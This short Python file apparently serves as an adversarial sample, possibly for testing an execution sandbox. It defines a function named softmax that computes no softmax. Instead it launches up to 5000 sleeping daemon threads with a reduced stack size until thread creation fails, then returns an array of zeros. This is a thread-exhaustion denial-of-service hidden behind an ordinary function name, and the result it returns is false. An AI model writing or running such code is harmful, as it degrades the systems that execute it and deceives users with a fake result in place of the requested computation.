"""Starts threads by the thousand until none can be had.

tries: fork
earns: nothing
trace: none
"""

import threading
import time

import numpy as np


def softmax(x, axis=-1):
    threading.stack_size(64 * 1024)
    for _ in range(5000):
        try:
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        except (RuntimeError, MemoryError):
            break
    return np.zeros(np.shape(x))
